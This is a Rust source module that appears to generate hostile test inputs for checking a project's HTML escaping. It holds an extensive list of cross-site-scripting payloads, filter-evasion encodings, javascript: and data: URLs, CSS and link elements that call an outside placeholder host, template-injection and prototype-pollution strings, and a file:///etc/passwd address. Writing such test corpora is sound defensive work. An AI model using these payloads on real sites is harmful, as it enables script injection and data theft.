//! What a browser would run, load or follow: elements, handlers, addresses, styles, and other spellings of them.

/// What ends the element, the attribute or the comment in which a text may stand.
const WAYS_OUT: [&str; 17] = [
    "",
    "\">",
    "'>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</pre>",
    "</code></pre></li></ol>",
    "</svg>",
    "</option></select>",
    "`>",
];

pub(super) fn scripts(say: &mut dyn FnMut(&str)) {
    for out in WAYS_OUT {
        for script in [
            "<script>¤</script>",
            "<ScRiPt >¤</sCrIpT>",
            "<script src=https://%H/№.js></script>",
            "<script src=data:text/javascript,¤></script>",
            "<script type=module>¤</script>",
            "<svg><script>¤</script></svg>",
        ] {
            say(&format!("{out}{script}"));
        }
    }
    for script in [
        "<script/x>¤</script>",
        "<script\n>¤</script\n>",
        "<script>¤",
        "<<script>¤//<</script>",
        "<script>¤<!--",
        "<!--<script>¤</script>-->",
        "<svg><script xlink:href=data:,¤ /></svg>",
        "<svg><script href=data:text/javascript,¤ /></svg>",
        "<math><mtext><script>¤</script></mtext></math>",
        "<template><script>¤</script></template>",
        "<noscript><p title=\"</noscript><script>¤</script>\">",
        "<style><!--</style><script>¤</script>-->",
        "<xmp><p title=\"</xmp><script>¤</script>\">",
        "<plaintext><script>¤</script>",
        "<table><script>¤</script></table>",
        "<select><script>¤</script></select>",
    ] {
        say(script);
    }
}

/// Elements with the events at which they run something by themselves, or when somebody touches them.
const HANDLERS: [&str; 36] = [
    "<img src=x onerror=¤>",
    "<img src=x:x onerror='¤'>",
    "<image src=x onerror=¤>",
    "<svg onload=¤>",
    "<svg/onload=¤>",
    "<body onload=¤>",
    "<body onpageshow=¤>",
    "<input autofocus onfocus=¤>",
    "<select autofocus onfocus=¤>",
    "<textarea autofocus onfocus=¤>",
    "<button autofocus onfocus=¤>",
    "<keygen autofocus onfocus=¤>",
    "<details open ontoggle=¤>",
    "<video src=x onerror=¤>",
    "<video><source onerror=¤></video>",
    "<audio src=x onerror=¤>",
    "<iframe onload=¤></iframe>",
    "<object data=x onerror=¤></object>",
    "<embed src=x onerror=¤>",
    "<link rel=stylesheet href=x onerror=¤>",
    "<style onload=¤></style>",
    "<script src=x onerror=¤></script>",
    "<marquee onstart=¤>x</marquee>",
    "<dialog open onclose=¤><form method=dialog><button>",
    "<p onmouseover=¤ style=position:fixed;inset:0>x</p>",
    "<a onmouseover=¤>x</a>",
    "<div onpointerover=¤ style=position:fixed;inset:0>x</div>",
    "<div tabindex=0 autofocus onfocusin=¤>x</div>",
    "<svg><animate onbegin=¤ attributeName=x dur=1s>",
    "<svg><set onbegin=¤ attributeName=x>",
    "<svg><a xlink:href=javascript:¤><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=¤>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=¤></foreignObject></svg>",
    "<math href=javascript:¤>x</math>",
    "<math><mglyph><style><img src=x onerror=¤></style></mglyph></math>",
    "<form><button formaction=javascript:¤>x</button></form>",
];

pub(super) fn handlers(say: &mut dyn FnMut(&str)) {
    for handler in HANDLERS {
        say(handler);
        say(&format!("\">{handler}"));
        say(&format!("</script>{handler}"));
        say(&format!("</title></style></textarea>{handler}"));
    }
}

pub(super) fn spellings(say: &mut dyn FnMut(&str)) {
    for handler in ["<img src=x onerror=¤>", "<svg onload=¤>", "<details open ontoggle=¤>"] {
        say(&handler.to_uppercase());
        say(&handler.replace(' ', "/"));
        say(&handler.replace(' ', "\t"));
        say(&handler.replace(' ', "\n"));
        say(&handler.replace(' ', "\r"));
        say(&handler.replace(' ', "\u{c}"));
        say(&handler.replace('<', "<\0"));
        say(&handler.replace(' ', "\0 "));
        say(&handler.replace('=', " = "));
        say(&handler.replace('=', "\0="));
        say(&handler.replace('>', ""));
        say(&handler.replace('>', "//"));
        say(&handler.replace('¤', "\"¤\""));
        say(&handler.replace('¤', "`¤`"));
        say(&handler.replace('¤', "&quot;&quot;;¤"));
    }
}

pub(super) fn attributes(say: &mut dyn FnMut(&str)) {
    for event in
        ["onmouseover", "onfocus", "onclick", "onload", "onanimationstart", "oncontentvisibilityautostatechange"]
    {
        say(&format!("\" {event}=¤ x=\""));
        say(&format!("' {event}=¤ x='"));
        say(&format!("x {event}=¤ "));
    }
    for attribute in [
        "\" autofocus tabindex=0 onfocus=¤ x=\"",
        "\"style=\"position:fixed;inset:0\" onmouseover=\"¤",
        "\" src=x onerror=¤ \"",
        "\" href=\"javascript:¤",
        "\" class=\"covered",
        "\" id=\"casefile-data",
        "\" contenteditable autofocus onfocus=¤ \"",
        "\" srcdoc=\"&lt;script&gt;parent.__casefile_pwned(№)&lt;/script&gt;",
        "&quot; onfocus=¤ autofocus x=&quot;",
        "&#34; onfocus=¤ autofocus x=&#34;",
        "\\\" onfocus=¤ autofocus x=\\\"",
        "told-E1\" onclick=\"¤",
    ] {
        say(attribute);
    }
}

pub(super) fn code(say: &mut dyn FnMut(&str)) {
    for text in [
        "\";¤;//",
        "';¤;//",
        "`;¤;//",
        "\\\";¤;//",
        "\\';¤;//",
        "</script><script>¤;//",
        "*/¤;/*",
        "//\u{2028}¤",
        "//\u{2029}¤",
        "\"}];¤;[{\"",
        "'-¤-'",
        "\"+¤+\"",
        "${¤}",
        "#{¤}",
        "{{constructor.constructor('¤')()}}",
        "{{$on.constructor('¤')()}}",
        "<%= ¤ %>",
        "[[${¤}]]",
        "\\u003cscript\\u003e¤\\u003c/script\\u003e",
        "\\x3cscript\\x3e¤\\x3c/script\\x3e",
        "</scr\\ipt><script>¤</script>",
        "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=¤>\"}}",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "undefined",
        "NaN",
        "[object Object]",
        "(?:a+)+$",
        "([",
        "$&",
    ] {
        say(text);
    }
}

pub(super) fn addresses(say: &mut dyn FnMut(&str)) {
    for address in [
        "javascript:¤",
        "JaVaScRiPt:¤",
        "java\tscript:¤",
        "java\nscript:¤",
        "\u{1}javascript:¤",
        " javascript:¤",
        "javascript://%0a¤",
        "javascript:\"<script>¤</script>\"",
        "&#106;avascript:¤",
        "&#x6a;avascript:¤",
        "&Tab;javascript&colon;¤",
        "vbscript:¤",
        "data:text/html,<script>¤</script>",
        "data:text/html;base64,PHNjcmlwdD4=№",
        "data:image/svg+xml,<svg onload=¤>",
        "blob:https://%H/№",
        "https://%H/№",
        "//%H/№",
        "\\\\%H\\№",
        "file:///etc/passwd?№",
        "https://%H@127.0.0.1/№",
    ] {
        say(address);
        say(&format!("<a href=\"{address}\">look here</a>"));
        say(&format!("<iframe src=\"{address}\"></iframe>"));
    }
    for element in [
        "<meta http-equiv=refresh content=\"0;url=https://%H/№\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:¤\">",
        "<base href=https://%H/№/>",
        "<form action=https://%H/№ id=f><input name=x></form><button form=f>ok</button>",
        "<img src=https://%H/№.png>",
        "<img srcset=\"https://%H/№.png 1x\">",
        "<video poster=https://%H/№.png>",
        "<link rel=prefetch href=https://%H/№>",
        "<link rel=icon href=https://%H/№>",
        "<link rel=manifest href=https://%H/№>",
        "<object data=https://%H/№></object>",
        "<embed src=https://%H/№>",
        "<iframe srcdoc=\"<script>parent.__casefile_pwned(№)</script>\"></iframe>",
        "<iframe srcdoc=\"&lt;img src=x onerror=parent.__casefile_pwned(№)&gt;\"></iframe>",
        "<frameset><frame src=https://%H/№></frameset>",
        "<a href=x ping=https://%H/№>x</a>",
        "<portal src=https://%H/№></portal>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none' №\">",
    ] {
        say(element);
    }
}

pub(super) fn styles(say: &mut dyn FnMut(&str)) {
    for style in [
        "<style>@import 'https://%H/№.css';</style>",
        "<style>*{background:url(https://%H/№)}</style>",
        "<style>#static,#app{display:none}</style>№",
        "</style><style>body{visibility:hidden}</style>№",
        "<p style=\"background:url(https://%H/№)\">x</p>",
        "<p style=\"width:expression(¤)\">x</p>",
        "<p style=\"behavior:url(https://%H/№)\">x</p>",
        "<p style=\"-moz-binding:url(https://%H/№)\">x</p>",
        "\" style=\"position:fixed;inset:0;background:url(https://%H/№)",
        "}*{display:none}/*№",
        "<link rel=stylesheet href=https://%H/№.css>",
        "<svg><style>@import 'https://%H/№';</style></svg>",
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=¤>",
        "<style>:target{color:red}</style><a id=x style=transition:color+1s ontransitionend=¤>",
    ] {
        say(style);
    }
}

pub(super) fn encodings(say: &mut dyn FnMut(&str)) {
    for text in [
        "&lt;script&gt;¤&lt;/script&gt;",
        "&#60;script&#62;¤&#60;/script&#62;",
        "&#x3c;script&#x3e;¤&#x3c;/script&#x3e;",
        "&#0000060script&#0000062¤",
        "&amp;lt;script&amp;gt;¤&amp;lt;/script&amp;gt;",
        "&LT;img src=x onerror=¤&GT;",
        "%3Cscript%3E¤%3C/script%3E",
        "%253Cscript%253E¤%253C/script%253E",
        "%C0%BCscript%C0%BE¤",
        "+ADw-script+AD4-¤+ADw-/script+AD4-",
        "\u{ff1c}script\u{ff1e}¤\u{ff1c}/script\u{ff1e}",
        "\u{feff}<script>¤</script>",
        "<\u{feff}script>¤</script>",
        "<scr\0ipt>¤</scr\0ipt>",
        "\0<script>¤</script>",
        "<\u{200b}script>¤</script>",
        "\u{fffd}<script>¤</script>",
        "\u{1}\u{2}\u{3}<img src=x onerror=¤>",
        "\u{7f}<img src=x onerror=¤>",
        "\u{2039}script\u{203a}¤",
        "\u{3c}\u{338}script>¤</script>",
        "¼script¾¤¼/script¾",
        "\\0074javascript:¤",
    ] {
        say(text);
    }
}
